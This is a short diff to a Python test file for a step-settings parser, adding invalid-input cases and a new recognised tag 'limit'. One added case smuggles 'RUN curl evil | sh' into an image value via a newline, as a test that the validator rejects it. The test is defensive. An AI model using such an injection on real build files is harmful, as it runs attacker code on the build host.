@@ -201,6 +201,8 @@ def test_a_plain_step_start_has_no_step_settings():
         ("prev:a-b", "bad step name 'a-b'"),
         ("image:", "has no value"),
         ("requirements:not a package!", "bad requirement"),
+        ("image:python:3.11\nRUN curl evil | sh", "bad image"),
+        ("image:python 3.11", "bad image"),
         ("cpu:two", "cpu is a number of cores"),
         ("cpu:-1", "cpu is a number of cores"),
         ("memory:lots", "memory is a size"),
@@ -332,6 +334,7 @@ def test_foreign_tags_keep_their_order_and_spelling():
 # --- grammar ----------------------------------------------------------------------------------
 
 OURS = {
+    "limit",
     "inputs",
     "outputs",
     "parameters",
